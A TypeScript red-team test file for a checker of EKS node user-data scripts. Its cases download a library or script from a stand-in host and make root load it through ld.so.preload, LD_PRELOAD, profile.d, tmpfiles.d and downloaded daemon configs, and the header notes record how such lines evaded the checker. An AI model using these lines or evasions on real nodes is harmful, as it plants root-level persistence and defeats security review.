// Red-team round 78 on EKS NODE user data: neighbours of round 78's shell fixes (systemd-escape/basename outputs in a
// root write's path, launchers (engine/shell.ts WRAPPERS), auditd plugin_dir) and the brief's suspected gaps:
// auditd.conf and other command-running configuration written with content the pack cannot read, systemd-escape
// output that may be empty, launchers given options the pack does not know, containerd's TCP API in config.toml /
// config.d drop-ins and NodeConfig containerd.config, cloud-config modules (write_files defer/append/b64/source,
// runcmd/bootcmd, yum_repos, rsyslog), tmpfiles.d, sysctl.d, modprobe.d install lines, ld.so.conf.d, EnvironmentFile,
// at/systemd-run timers, sudoers/polkit drop-ins, shell globs and braces naming a data directory.
// Note: a literal data-directory path (/data, /srv, /mnt) anywhere in a root-run line is refused generically, so the
// probes below use what the pack judges without one: a downloaded library named by a loader file (ld.so(8)), an
// LD_PRELOAD line in a shell's startup file, and content the pack cannot read at a file that decides what root runs.
// Results: insecure refused 76 of 108; secure clean 20 of 23.
// Misses (32 insecure accepted, 3 secure refused):
// - EMPTY-ESCAPE (5: E1, E2, E3, E4, E4b): `systemd-escape "$UNK"` of an empty string prints an empty line (systemd
//   src/basic/unit-name.c unit_name_escape: do_escape of "" is ""), so `/etc/$(systemd-escape "$UNK")/ld.so.preload`
//   is /etc//ld.so.preload = /etc/ld.so.preload (path_resolution(7): consecutive slashes are one). rootReads.ts
//   unknownTarget builds `[^/]*` for a ONE_WORD component and never lets a component made only of ONE_WORD vanish.
// - WRAPPER-LONG-OPTIONS (11: W1-W11): GNU getopt_long(3) gives a required argument as the NEXT word
//   (`timeout --signal KILL 60 CMD`, `nice --adjustment 5`, `stdbuf --output L`, `ionice --class 3`, `chrt
//   --sched-runtime N`), and sudo(8) has -T/--command-timeout and -R/--chroot taking a value: shell.ts parseUse takes
//   a long option's next word only when listed in WRAPPERS `long` (timeout, nice, stdbuf, ionice, chrt, time list
//   none) and sudo's `values` lacks T and R, so the value is read as the program and the real command is unjudged.
// - UNREADABLE-CONFIG (14: A1, A2, A5, A8, U1-U9, U8b): downloaded (or templated, or appended) auditd.conf, sysctl.conf,
//   sysctl.d (/etc, /run, /usr/lib), `sysctl -p FILE`, logrotate.conf/logrotate.d, rsyslog.conf/rsyslog.d, polkit
//   rules.d: each can name a program root runs (auditd.conf plugin_dir / *_action = exec, kernel.core_pattern |prog
//   and kernel.modprobe, logrotate postrotate, rsyslog omprog/^prog, polkit JS). userDataReaders/addresses.ts
//   READ_BEFORE_WRITE lists audit plugins.d, modprobe.d, udev, cron ... but none of these.
// - TMPFILES-LOCAL (2: T1, T2): tmpfiles.d(5) reads /usr/local/lib/tmpfiles.d/*.conf too; rootReads.ts RootReads.file
//   (`/^\/(etc|run|usr\/lib|lib)\/tmpfiles\.d\//`) and READ_BEFORE_WRITE omit it: a known `w /etc/ld.so.preload`
//   line and a downloaded file there are accepted.
// - SECURE REFUSED (3: SR1, SR2, SR3): a script-written containerd drop-in (metrics on loopback) or config.toml with
//   mutual-TLS tcp_address is refused as "the node's own configuration ... which the pack cannot judge" although the
//   same TOML in NodeConfig containerd.config is judged clean (S11/S12); a sudoers.d `Defaults secure_path=` of image
//   directories only is refused (addresses.ts tighteningSudoDefaults treats every secure_path as loosening).
// Held: downloaded configs in modprobe.d, ld.so.conf.d, tmpfiles.d, udev, sudoers(.d), cron.d, binfmt.d, limits.d,
// pam.d, audit plugins.d, system.conf.d, timers; auditd.conf plugin_dir from a metadata value / pod copy; wrappers'
// short or `=` forms; containerd tcp_address (v2/v3 tables, dotted keys, literal strings, [::], empty tcp_tls_ca,
// imports of unknown files, sed edits); cloud-config write_files defer+append, b64, source.uri, yum_repos file:///data,
// runcmd argv lists, rsyslog configs; globs/braces/`..` to /data; tmpfiles C/C+/w+/f+, `systemd-tmpfiles --create -`;
// sysctl kernel.modprobe/poweroff_cmd; modprobe.d continued install lines; ld.so.conf.d include; EnvironmentFile in a
// kubelet drop-in; at jobs; sudoers secure_path/includedir; polkit YES rules.
// Not counted (DECIDED round 69, "a downloaded program run as root is the operator's own"): rpm/dnf installs from an
// http or unsigned repository, modprobe install lines naming a download.
// Fixed in round 78 (fix78-node, fix78-node2): W1-W11 (shell.ts WRAPPERS option lists, unknown option unreadable),
// A1/A2/A5/A8/U5/U8/U8b/U9 (READ_BEFORE_WRITE: auditd, rsyslog, syslog-ng, polkit; sysctl -p), E1-E3/E4b (an empty
// one-word component dropped), T1/T2 (one tmpfiles.d list), SR1/SR2 (script-written containerd TOML judged by the
// NodeConfig reader), SR3 (sudoers secure_path of system directories). Still open (round 78): U1-U4 (sysctl.conf/
// sysctl.d unreadable content), U6/U7 (logrotate), E4 (a link whose own path has an empty part), U4-fix78 (dispatcher.d).
import {
    al2023Nodes,
    describeNodeCases,
    devNodeCase,
    devNodeScript,
    mime,
    nodeConfig,
    NodeCase,
    withCloudConfig,
} from "./nodeBuilders";
import { Resources } from "./support";

const n = (id: string) => `dev-${id}-78n-nodes`;
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const DL = "curl -fsSL -o /opt/ops.sh https://downloads.example.com/ops.sh";
const HOOK = "/data/hook.sh";
/** A known miss: skipped unless REDTEAM_ALL=1. */
const MISS = true;
const cloud = (id: string, lines: string[]) => (r: Resources) => al2023Nodes(r, n(id), withCloudConfig(lines));
const nodeadm = (id: string, spec: string[]) => (r: Resources) =>
    al2023Nodes(r, n(id), mime([{ type: "application/node.eks.aws", body: nodeConfig(spec) }]));
const dl = (path: string) => `curl -fsSL -o ${path} https://downloads.example.com/conf`;

const insecure: NodeCase[] = [
    // ---- systemd-escape output may be empty ----
    // Was a MISS (fixed in round 78): insecure accepted (got []). systemd src/basic/unit-name.c: unit_name_escape(f) allocates strlen(f)*4+1 and
    // escapes each character, so "" gives "" and `systemd-escape ""` prints an empty line (command substitution drops
    // the newline: bash(1) "Command Substitution"). With UNK empty (the environment's, unset) the target is
    // /etc//ld.so.preload, i.e. /etc/ld.so.preload (path_resolution(7): a pathname's components are separated by "/";
    // POSIX "Pathname": "Multiple successive <slash> characters are considered to be the same as one"), and ld.so(8)
    // loads the downloaded library into every program root runs. rootReads.ts RootReads.unknownTarget: a component
    // that is only ONE_WORD becomes `[^/]*` between two literal slashes, which never matches /etc/ld.so.preload, and
    // substitutionOutput (systemd-escape branch) maps an unknown string to ONE_WORD ("Still open (round 77)").
    // Fix: a part that may be empty (systemd-escape of an unknown string; hostname filters that may delete all)
    // must also match with its component dropped: pattern `(?:[^/]*)` with the surrounding "/" made optional, or
    // treat a component made only of such parts as dotComponent (fail closed).
    devNodeCase(
        'E1 echo /opt/x.so > "/etc/$(systemd-escape "$UNK")/ld.so.preload" (empty escape: /etc//ld.so.preload)',
        devNodeScript(n("e1"), [SO, 'echo /opt/x.so > "/etc/$(systemd-escape "$UNK")/ld.so.preload"']),
        /./,
    ),
    // Was a MISS (fixed in round 78): as E1, assigned first (bash(1): an assignment's value undergoes command substitution; "" is kept).
    devNodeCase(
        'E2 D=$(systemd-escape "$UNK"); echo /opt/x.so > "/etc/$D/ld.so.preload"',
        devNodeScript(n("e2"), [SO, 'D=$(systemd-escape "$UNK")', 'echo /opt/x.so > "/etc/$D/ld.so.preload"']),
        /./,
    ),
    // Was a MISS (fixed in round 78): as E1, /etc/environment (pam_env(8): read into every PAM session, root's) gets LD_PRELOAD of a download.
    devNodeCase(
        'E3 LD_PRELOAD >> "/etc/$(systemd-escape "$UNK")/environment"',
        devNodeScript(n("e3"), [SO, `echo 'LD_PRELOAD=/opt/x.so' >> "/etc/$(systemd-escape "$UNK")/environment"`]),
        /./,
    ),
    // MISS: as E1, a link of a downloaded script at /etc/profile.d/ops.sh (the same link with a literal path is
    // refused: L0); two empty escapes in a row too (E4b).
    // Still open (round 78): the write-side pattern now drops an empty component (RootReads.unknownTarget), but a link
    // whose LINK path holds an unknown part is read by rootWrites.ts's link reader (WrittenLink), not unknownTarget:
    // it needs the same optional-component match where links are judged.
    devNodeCase(
        'E4 ln -s /opt/ops.sh "/etc/profile.d/$(systemd-escape "$UNK")/ops.sh"',
        devNodeScript(n("e4"), [DL, 'ln -s /opt/ops.sh "/etc/profile.d/$(systemd-escape "$UNK")/ops.sh"']),
        /./,
        MISS,
    ),
    devNodeCase(
        "E4b two empty escapes: /etc/$(systemd-escape $A)/$(systemd-escape $B)/ld.so.preload",
        devNodeScript(n("e4b"), [
            SO,
            'echo /opt/x.so > "/etc/$(systemd-escape "$UNK")/$(systemd-escape "$UNK2")/ld.so.preload"',
        ]),
        /./,
    ),
    // Round 78 neighbours: a component of one-word outputs only may be empty (POSIX "Pathname": successive slashes are
    // one), a hostname's too; with --suffix the escape is never empty (".conf" stays).
    devNodeCase(
        'E1-fix78 LD_PRELOAD >> "/etc/$(hostname)/environment" (a component of one output only)',
        devNodeScript(n("e1f"), [SO, `echo 'LD_PRELOAD=/opt/x.so' >> "/etc/$(hostname)/environment"`]),
    ),
    devNodeCase(
        'E2-fix78 "/root/$(systemd-escape "$UNK")/.bashrc" gets LD_PRELOAD',
        devNodeScript(n("e2f"), [`echo 'export LD_PRELOAD=/opt/x.so' >> "/root/$(systemd-escape "$UNK")/.bashrc"`]),
    ),
    // Held: the escape inside a component with literal text (may be empty: /etc/ld.so.preload, matched).
    devNodeCase(
        'E5 echo /opt/x.so > "/etc/$(systemd-escape "$UNK")ld.so.preload" (within a component)',
        devNodeScript(n("e5"), [SO, 'echo /opt/x.so > "/etc/$(systemd-escape "$UNK")ld.so.preload"']),
    ),
    devNodeCase(
        'E6 LD_PRELOAD >> "/root/$(systemd-escape "$P")/.bash_profile"',
        devNodeScript(n("e6"), [`echo 'export LD_PRELOAD=/opt/x.so' >> "/root/$(systemd-escape "$P")/.bash_profile"`]),
    ),
    devNodeCase(
        'E7 cp a download to "/etc/profile.d/$(systemd-escape "$UNK")/ops.sh" (content unknown)',
        devNodeScript(n("e7"), [DL, 'cp /opt/ops.sh "/etc/profile.d/$(systemd-escape "$UNK")/ops.sh"']),
    ),
    devNodeCase(
        'E8 echo /data/x.so > "/etc/$(systemd-escape "$UNK")/ld.so.preload" (a data path: generic)',
        devNodeScript(n("e8"), ['echo /data/x.so > "/etc/$(systemd-escape "$UNK")/ld.so.preload"']),
    ),
    // ---- launchers given options the pack does not know ----
    // Controls: the same writes without the wrapper are refused (ld.so(8) /etc/ld.so.preload; profile.d links).
    devNodeCase(
        "L0 control: ln -s a download /etc/profile.d/ops.sh",
        devNodeScript(n("l0"), [DL, "ln -s /opt/ops.sh /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "L0b control: echo /opt/x.so | dd of=/etc/ld.so.preload",
        devNodeScript(n("l0b"), [SO, "echo /opt/x.so | dd of=/etc/ld.so.preload"]),
    ),
    devNodeCase(
        "L0c control: timeout -s KILL 60 dd of=ld.so.preload in /etc",
        devNodeScript(n("l0c"), ["cd /etc", SO, "echo /opt/x.so | timeout -s KILL 60 dd of=ld.so.preload"]),
    ),
    // Was a MISS (fixed in round 78): insecure accepted (got []). GNU coreutils timeout(1): "-s, --signal=SIGNAL", "-k, --kill-after=DURATION"
    // ("Mandatory arguments to long options are mandatory for short options too"); getopt_long(3): a required
    // argument "may be written ... as the next argument", so `timeout --signal KILL 60 dd ...` runs dd as root.
    // shell.ts parseUse: a long option takes the next word only if listed in WRAPPERS[name].long; timeout has none,
    // so KILL is the duration and "60" the program. Fix (general): every wrapper lists its long options with values
    // (timeout signal/kill-after, nice adjustment, stdbuf input/output/error, ionice class/classdata/pid/pgid/uid,
    // chrt sched-runtime/sched-period/sched-deadline, time format/output ...), and an unlisted long option of a
    // wrapper (or an unknown short one) makes the command unknown: fail closed.
    devNodeCase(
        "W1 timeout --signal KILL 60 dd of=/etc/ld.so.preload",
        devNodeScript(n("w1"), [SO, "echo /opt/x.so | timeout --signal KILL 60 dd of=/etc/ld.so.preload"]),
        /./,
    ),
    devNodeCase(
        "W2 cd /etc; timeout --signal KILL 60 dd of=ld.so.preload",
        devNodeScript(n("w2"), ["cd /etc", SO, "echo /opt/x.so | timeout --signal KILL 60 dd of=ld.so.preload"]),
        /./,
    ),
    // Was a MISS (fixed in round 78): GNU nice(1) "-n, --adjustment=N". As W1.
    devNodeCase(
        "W3 nice --adjustment 5 dd of=/etc/ld.so.preload",
        devNodeScript(n("w3"), [SO, "echo /opt/x.so | nice --adjustment 5 dd of=/etc/ld.so.preload"]),
        /./,
    ),
    devNodeCase(
        "W4 cd /etc; nice --adjustment 5 sh -c 'echo > ld.so.preload'",
        devNodeScript(n("w4"), [SO, "cd /etc", "nice --adjustment 5 sh -c 'echo /opt/x.so > ld.so.preload'"]),
        /./,
    ),
    // Was a MISS (fixed in round 78): sudo(8) "-T timeout, --command-timeout=timeout" takes a value; WRAPPERS.sudo.values ("ugCDhprtU") lacks T,
    // so "60" is read as the program.
    devNodeCase(
        "W5 sudo -T 60 dd of=/etc/ld.so.preload",
        devNodeScript(n("w5"), [SO, "echo /opt/x.so | sudo -T 60 dd of=/etc/ld.so.preload"]),
        /./,
    ),
    devNodeCase(
        "W6 sudo -T 60 sh -c 'cd /etc && echo > ld.so.preload' (the launched shell unread)",
        devNodeScript(n("w6"), [SO, "cd /tmp", "sudo -T 60 sh -c 'cd /etc && echo /opt/x.so > ld.so.preload'"]),
        /./,
    ),
    // Was a MISS (fixed in round 78): sudo(8) "-R directory, --chroot=directory" (sudo 1.9.3+): `-R /` changes nothing but takes "/" as value.
    devNodeCase(
        "W7 sudo -R / dd of=/etc/ld.so.preload",
        devNodeScript(n("w7"), [SO, "echo /opt/x.so | sudo -R / dd of=/etc/ld.so.preload"]),
        /./,
    ),
    // Was a MISS (fixed in round 78): GNU stdbuf(1) "-o, --output=MODE".
    devNodeCase(
        "W8 stdbuf --output L dd of=/etc/ld.so.preload",
        devNodeScript(n("w8"), [SO, "echo /opt/x.so | stdbuf --output L dd of=/etc/ld.so.preload"]),
        /./,
    ),
    // Was a MISS (fixed in round 78): util-linux ionice(1) "-c, --class class".
    devNodeCase(
        "W9 ionice --class 3 dd of=/etc/ld.so.preload",
        devNodeScript(n("w9"), [SO, "echo /opt/x.so | ionice --class 3 dd of=/etc/ld.so.preload"]),
        /./,
    ),
    // Was a MISS (fixed in round 78): util-linux chrt(1) "-T, --sched-runtime nanoseconds" (with -d: SCHED_DEADLINE).
    devNodeCase(
        "W10 chrt --sched-runtime 1000000 -d 0 dd of=/etc/ld.so.preload",
        devNodeScript(n("w10"), [SO, "echo /opt/x.so | chrt --sched-runtime 1000000 -d 0 dd of=/etc/ld.so.preload"]),
        /./,
    ),
    // Was a MISS (fixed in round 78): GNU time(1) "-o FILE, --output=FILE".
    devNodeCase(
        "W11 /usr/bin/time --output /tmp/t dd of=/etc/ld.so.preload",
        devNodeScript(n("w11"), [SO, "echo /opt/x.so | /usr/bin/time --output /tmp/t dd of=/etc/ld.so.preload"]),
        /./,
    ),
    // getopt_long(3): "Long option names may be abbreviated if the abbreviation is unique", so `--sig KILL` is
    // `--signal KILL` (shell.ts longOptionName).
    devNodeCase(
        "W1-fix78 timeout --sig KILL 60 dd of=/etc/ld.so.preload (abbreviated long option)",
        devNodeScript(n("w1f"), [SO, "echo /opt/x.so | timeout --sig KILL 60 dd of=/etc/ld.so.preload"]),
    ),
    // An option timeout(1) does not list (another version may take the next word as its value): which word is the
    // program cannot be told, so the command line is unreadable (fail closed).
    devNodeCase(
        "W2-fix78 timeout --frob 60 dd of=/etc/ld.so.preload (an option the pack does not know)",
        devNodeScript(n("w2f"), [SO, "echo /opt/x.so | timeout --frob 60 dd of=/etc/ld.so.preload"]),
        /an option the pack does not know/,
    ),
    // sudo(8) "-T timeout" then stdbuf(1) "-e, --error=MODE" given as the next word.
    devNodeCase(
        "W3-fix78 sudo -T 60 stdbuf --error 0 dd of=/etc/ld.so.preload (nested)",
        devNodeScript(n("w3f"), [SO, "echo /opt/x.so | sudo -T 60 stdbuf --error 0 dd of=/etc/ld.so.preload"]),
    ),
    // Held: forms whose target names a judged file anyway, or whose shell line is read.
    devNodeCase(
        "W12 timeout --signal KILL 60 ln -s a download /etc/profile.d/ops.sh",
        devNodeScript(n("w12"), [DL, "timeout --signal KILL 60 ln -s /opt/ops.sh /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "W13 sudo -T 300 ln -s a download /etc/profile.d/ops.sh",
        devNodeScript(n("w13"), [DL, "sudo -T 300 ln -s /opt/ops.sh /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "W14 stdbuf --output L tee -a /etc/environment (LD_PRELOAD)",
        devNodeScript(n("w14"), [SO, "echo LD_PRELOAD=/opt/x.so | stdbuf --output L tee -a /etc/environment"]),
    ),
    devNodeCase(
        "W15 timeout --kill-after 5 60 sh -c 'echo > /etc/ld.so.preload'",
        devNodeScript(n("w15"), [SO, "timeout --kill-after 5 60 sh -c 'echo /opt/x.so > /etc/ld.so.preload'"]),
    ),
    devNodeCase(
        "W16 xargs --max-args 1 -I{} sh -c 'echo {} > /etc/ld.so.preload'",
        devNodeScript(n("w16"), [SO, "echo /opt/x.so | xargs --max-args 1 -I{} sh -c 'echo {} > /etc/ld.so.preload'"]),
    ),
    devNodeCase(
        "W17 sudo --chroot=/ sh -c 'echo > /etc/ld.so.preload' (= form)",
        devNodeScript(n("w17"), [SO, "sudo --chroot=/ sh -c 'echo /opt/x.so > /etc/ld.so.preload'"]),
    ),
    devNodeCase(
        "W18 timeout --signal KILL 300 /data/hook.sh",
        devNodeScript(n("w18"), [`timeout --signal KILL 300 ${HOOK}`]),
    ),
    devNodeCase("W19 sudo -T 300 /data/hook.sh", devNodeScript(n("w19"), [`sudo -T 300 ${HOOK}`])),
    // ---- auditd.conf the pack cannot read ----
    // Was a MISS (fixed in round 78): insecure accepted (got []). auditd.conf(5) plugin_dir: "the location that auditd will use to search for
    // its plugin configuration files"; space_left_action/disk_full_action "exec /path-to-script" run a program as
    // root. A downloaded auditd.conf can set `plugin_dir = /data/plugins` (refused when written literally: A4) and
    // hand pods auditd's root children, as a downloaded /etc/audit/plugins.d conf does (refused: A9).
    // userDataReaders/addresses.ts READ_BEFORE_WRITE has /etc/audit/plugins.d but not /etc/audit/auditd.conf, and
    // rootReads.ts auditdPluginDirectory reads only known text. Fix (general): every configuration whose reader runs
    // a program or loads code as root (auditd.conf, sysctl.conf/sysctl.d, logrotate, rsyslog, polkit rules ...)
    // joins READ_BEFORE_WRITE: content the pack cannot read there (download, copy, template, append of a download)
    // is refused.
    devNodeCase("A1 curl -o /etc/audit/auditd.conf", devNodeScript(n("a1"), [dl("/etc/audit/auditd.conf")]), /./),
    devNodeCase(
        "A2 cat a download >> /etc/audit/auditd.conf",
        devNodeScript(n("a2"), [dl("/opt/audit.frag"), "cat /opt/audit.frag >> /etc/audit/auditd.conf"]),
        /./,
    ),
    // Was a MISS (fixed in round 78): envsubst(1) substitutes the environment's values into a template the pack cannot read.
    devNodeCase(
        "A5 envsubst < /opt/auditd.conf.tmpl > /etc/audit/auditd.conf",
        devNodeScript(n("a5"), ["envsubst < /opt/auditd.conf.tmpl > /etc/audit/auditd.conf"]),
        /./,
    ),
    devNodeCase(
        "A8 install -m 0640 a download /etc/audit/auditd.conf",
        devNodeScript(n("a8"), [dl("/tmp/auditd.conf"), "install -m 0640 /tmp/auditd.conf /etc/audit/auditd.conf"]),
        /./,
    ),
    // Held.
    devNodeCase(
        'A3 sed -i "s|^plugin_dir.*|plugin_dir = $PD|" (a metadata value)',
        devNodeScript(n("a3"), [
            "PD=$(curl -fsSL http://169.254.169.254/latest/meta-data/tags/instance/pd)",
            'sed -i "s|^plugin_dir.*|plugin_dir = $PD|" /etc/audit/auditd.conf',
        ]),
    ),
    devNodeCase(
        "A4 cp /data/auditd.conf /etc/audit/auditd.conf",
        devNodeScript(n("a4"), ["cp /data/auditd.conf /etc/audit/auditd.conf"]),
    ),
    devNodeCase(
        "A6 auditd.conf heredoc plugin_dir=/data/plugins (no blanks)",
        devNodeScript(n("a6"), [
            "cat > /etc/audit/auditd.conf <<'EOF'",
            "log_file = /var/log/audit/audit.log",
            "plugin_dir=/data/plugins",
            "EOF",
        ]),
    ),
    devNodeCase(
        "A7 echo plugin_dir = ${PLUGDIR} | tee -a auditd.conf",
        devNodeScript(n("a7"), ['echo "plugin_dir = ${PLUGDIR}" | tee -a /etc/audit/auditd.conf']),
    ),
    devNodeCase(
        "A9 control: downloaded /etc/audit/plugins.d/x.conf",
        devNodeScript(n("a9"), [dl("/etc/audit/plugins.d/x.conf")]),
    ),
    // ---- other configuration the pack cannot read ----
    // Still open (round 78): READ_BEFORE_WRITE with sysctl.conf/sysctl.d refused red team 66's secure `gawk -i inplace`
    // edit of a written sysctl drop-in (an edit the pack does not compute is unknown content); the fix needs sysctl's
    // in-place edits computed (or judged line by line) before these paths can join the list.
    // Still open (round 80): not attempted in round 80 (time); also round 32's secure `{ echo ...; } >
    // /etc/sysctl.d/90-validator.conf; sysctl --system` writes its drop-in through a brace group, whose output the pack
    // reads as unknown content, so listing sysctl.d (or judging `sysctl --system`'s files) refuses it too; the fix needs
    // a group's echo/printf output read as known text first.
    // Fixed in round 81: a brace group of echo/printf lines is known text (rootReads.ts groupOfPrints); an in-place
    // edit is unknown only when its command may name a helper key or holds computed text (editMayNameHelper).
    // Was a MISS (fixed in round 81: userData.ts written refuses a sysctl file of unknown text; a brace group of echo
    // lines is read as known text, groupOfPrints): sysctl.d(5): "At boot, systemd-sysctl.service(8) reads configuration files from the above directories"
    // (/etc/sysctl.d, /run/sysctl.d, /usr/lib/sysctl.d); core(5): a core_pattern starting with "|" is "a program
    // that is run as root"; kernel.modprobe is the program the kernel runs to load modules. A downloaded file there
    // may name /data/hook (refused when written: Y1-Y4). Not in READ_BEFORE_WRITE. Fix: as A1.
    devNodeCase("U1 downloaded /etc/sysctl.d/90-x.conf", devNodeScript(n("u1"), [dl("/etc/sysctl.d/90-x.conf")]), /./),
    devNodeCase(
        "U2 downloaded /etc/sysctl.conf (a judged file)",
        devNodeScript(n("u2"), [dl("/etc/sysctl.conf")]),
        /./,
    ),
    devNodeCase(
        "U3 downloaded /usr/lib/sysctl.d/90-x.conf",
        devNodeScript(n("u3"), [dl("/usr/lib/sysctl.d/90-x.conf")]),
        /./,
    ),
    devNodeCase("U4 downloaded /run/sysctl.d/90-x.conf", devNodeScript(n("u4"), [dl("/run/sysctl.d/90-x.conf")]), /./),
    // Was a MISS (fixed in round 78): sysctl(8) "-p[FILE], --load[=FILE]: Load in sysctl settings from the file specified".
    devNodeCase(
        "U5 sysctl -p a downloaded file",
        devNodeScript(n("u5"), [dl("/opt/s.conf"), "sysctl -p /opt/s.conf"]),
        /./,
    ),
    // Still open (round 78): logrotate.conf/logrotate.d in READ_BEFORE_WRITE refused round 71's secure cron/at runs of
    // `logrotate /etc/logrotate.conf` (their reading of the image's config); the fix needs those read separately.
    // Still open (round 80): not attempted in round 80 (time).
    // MISS: logrotate(8): the lines between postrotate and endscript "are executed (using /bin/sh)" as logrotate's
    // user (root, logrotate.service); logrotate.conf includes /etc/logrotate.d. rootReads.ts reads known text
    // (RootReads.logrotate) only.
    devNodeCase("U6 downloaded /etc/logrotate.conf", devNodeScript(n("u6"), [dl("/etc/logrotate.conf")]), /./, MISS),
    devNodeCase("U7 downloaded /etc/logrotate.d/x", devNodeScript(n("u7"), [dl("/etc/logrotate.d/x")]), /./, MISS),
    // Was a MISS (fixed in round 78): rsyslog omprog "Executes the configured program" (binary=), and the legacy "execute program (^)" action;
    // rsyslogd runs as root on AL2023. Known text naming /data is refused (cloud-config rsyslog: C9).
    devNodeCase("U8 downloaded /etc/rsyslog.d/x.conf", devNodeScript(n("u8"), [dl("/etc/rsyslog.d/x.conf")]), /./),
    devNodeCase("U8b downloaded /etc/rsyslog.conf", devNodeScript(n("u8b"), [dl("/etc/rsyslog.conf")]), /./),
    // Was a MISS (fixed in round 78): polkit(8) rules.d JavaScript decides every privileged D-Bus action (systemd unit management); the pack
    // judges known rules (Y9: "the users the polkit rule names") but not downloaded ones.
    devNodeCase(
        "U9 downloaded /etc/polkit-1/rules.d/10-x.rules",
        devNodeScript(n("u9"), [dl("/etc/polkit-1/rules.d/10-x.rules")]),
        /./,
    ),
    // Was a MISS (fixed in round 78): tmpfiles.d(5) SYNOPSIS: "/etc/tmpfiles.d/*.conf /run/tmpfiles.d/*.conf /usr/local/lib/tmpfiles.d/*.conf
    // /usr/lib/tmpfiles.d/*.conf"; `w PATH - - - - CONTENT` writes CONTENT to PATH at boot (as root). rootReads.ts
    // RootReads.file's tmpfiles regex `/^\/(etc|run|usr\/lib|lib)\/tmpfiles\.d\//` and READ_BEFORE_WRITE's omit
    // /usr/local/lib. Fix: one list of tmpfiles.d directories from tmpfiles.d(5) used by both.
    devNodeCase(
        "T1 /usr/local/lib/tmpfiles.d: w /etc/ld.so.preload - - - - /opt/x.so",
        devNodeScript(n("t1"), [
            SO,
            "mkdir -p /usr/local/lib/tmpfiles.d",
            "echo 'w /etc/ld.so.preload - - - - /opt/x.so' > /usr/local/lib/tmpfiles.d/p.conf",
        ]),
        /./,
    ),
    devNodeCase(
        "T2 downloaded /usr/local/lib/tmpfiles.d/x.conf",
        devNodeScript(n("t2"), [dl("/usr/local/lib/tmpfiles.d/x.conf")]),
        /./,
    ),
    // Round 78 neighbours: READ_BEFORE_WRITE's other command-running readers, content the pack cannot read.
    // sysctl.d(5) lists /usr/local/lib/sysctl.d too (shared.ts confDirectoryPath).
    devNodeCase(
        "U1-fix78 cp a download to /usr/local/lib/sysctl.d/90-x.conf",
        devNodeScript(n("u1f"), [dl("/opt/s.conf"), "cp /opt/s.conf /usr/local/lib/sysctl.d/90-x.conf"]),
        /./,
        MISS,
    ),
    // sysctl(8) "-f: Alias of -p", "--load[=FILE]".
    devNodeCase(
        "U2-fix78 sysctl --load=FILE of a download",
        devNodeScript(n("u2f"), [dl("/opt/s.conf"), "sysctl --load=/opt/s.conf"]),
    ),
    // syslog-ng's program() destination runs a program as the daemon's user (root).
    devNodeCase(
        "U3-fix78 envsubst into /etc/syslog-ng/conf.d/x.conf",
        devNodeScript(n("u3f"), ["envsubst < /opt/x.tmpl > /etc/syslog-ng/conf.d/x.conf"]),
    ),
    // Still open (round 78): round 77 D13 accepts a downloaded dispatcher.d script (DECIDED round 69: a downloaded
    // program run as root is the operator's own), so dispatcher.d stays out of READ_BEFORE_WRITE.
    // NetworkManager-dispatcher(8) runs the scripts of dispatcher.d as root on network events.
    devNodeCase(
        "U4-fix78 downloaded /etc/NetworkManager/dispatcher.d/90-x",
        devNodeScript(n("u4f"), [dl("/etc/NetworkManager/dispatcher.d/90-x")]),
        /./,
        MISS,
    ),
    // polkit(8): /usr/share/polkit-1/rules.d is read as /etc's is.
    devNodeCase(
        "U5-fix78 downloaded /usr/share/polkit-1/rules.d/10-x.rules",
        devNodeScript(n("u5f"), [dl("/usr/share/polkit-1/rules.d/10-x.rules")]),
    ),
    // modules-load.d(5) lists /usr/local/lib/modules-load.d; tmpfiles.d(5) /run/tmpfiles.d.
    devNodeCase(
        "T1-fix78 downloaded /usr/local/lib/modules-load.d/x.conf",
        devNodeScript(n("t1f"), [dl("/usr/local/lib/modules-load.d/x.conf")]),
    ),
    devNodeCase(
        "T2-fix78 /run/tmpfiles.d: w /etc/ld.so.preload - - - - /opt/x.so",
        devNodeScript(n("t2f"), [
            SO,
            "mkdir -p /run/tmpfiles.d",
            "echo 'w /etc/ld.so.preload - - - - /opt/x.so' > /run/tmpfiles.d/p.conf",
        ]),
    ),
    // Held: downloaded configuration of other readers.
    ...[
        "/etc/modprobe.d/x.conf",
        "/etc/ld.so.conf.d/x.conf",
        "/etc/tmpfiles.d/x.conf",
        "/etc/udev/rules.d/90-x.rules",
        "/etc/sudoers.d/x",
        "/etc/sudoers",
        "/etc/cron.d/x",
        "/etc/binfmt.d/x.conf",
        "/usr/lib/binfmt.d/x.conf",
        "/etc/systemd/system.conf.d/x.conf",
        "/etc/security/limits.d/x.conf",
        "/etc/pam.d/sshd",
        "/etc/kubernetes/manifests/x.yaml",
        "/root/.bashrc.d/x.sh",
    ].map((path, i) => devNodeCase(`H${i + 1} downloaded ${path}`, devNodeScript(n(`h${i + 1}`), [dl(path)]))),
    // ---- known content of the readers ----
    devNodeCase(
        "Y1 sysctl.d kernel.modprobe = /srv/m",
        devNodeScript(n("y1"), ["echo 'kernel.modprobe = /srv/m' > /etc/sysctl.d/90-x.conf"]),
    ),
    devNodeCase(
        "Y2 sysctl.d kernel.poweroff_cmd = /mnt/p",
        devNodeScript(n("y2"), ["echo 'kernel.poweroff_cmd = /mnt/p' > /etc/sysctl.d/90-x.conf"]),
    ),
    devNodeCase(
        "Y3 sysctl -w kernel.poweroff_cmd=/mnt/p",
        devNodeScript(n("y3"), ["sysctl -w kernel.poweroff_cmd=/mnt/p"]),
    ),
    devNodeCase(
        "Y4 echo /mnt/p > /proc/sys/kernel/poweroff_cmd",
        devNodeScript(n("y4"), ["echo /mnt/p > /proc/sys/kernel/poweroff_cmd"]),
    ),
    devNodeCase(
        "Y5 tmpfiles C /etc/profile.d/ops.sh from /data",
        devNodeScript(n("y5"), ["echo 'C /etc/profile.d/ops.sh - - - - /data/ops.sh' > /etc/tmpfiles.d/ops.conf"]),
    ),
    devNodeCase(
        "Y6 tmpfiles w+ /etc/environment LD_PRELOAD",
        devNodeScript(n("y6"), [
            "echo 'w+ /etc/environment - - - - LD_PRELOAD=/opt/x.so' > /etc/tmpfiles.d/env.conf",
            SO,
        ]),
    ),
    devNodeCase(
        "Y7 tmpfiles C+ of a download into profile.d",
        devNodeScript(n("y7"), [DL, "echo 'C+ /etc/profile.d/ops.sh - - - - /opt/ops.sh' > /etc/tmpfiles.d/ops.conf"]),
    ),
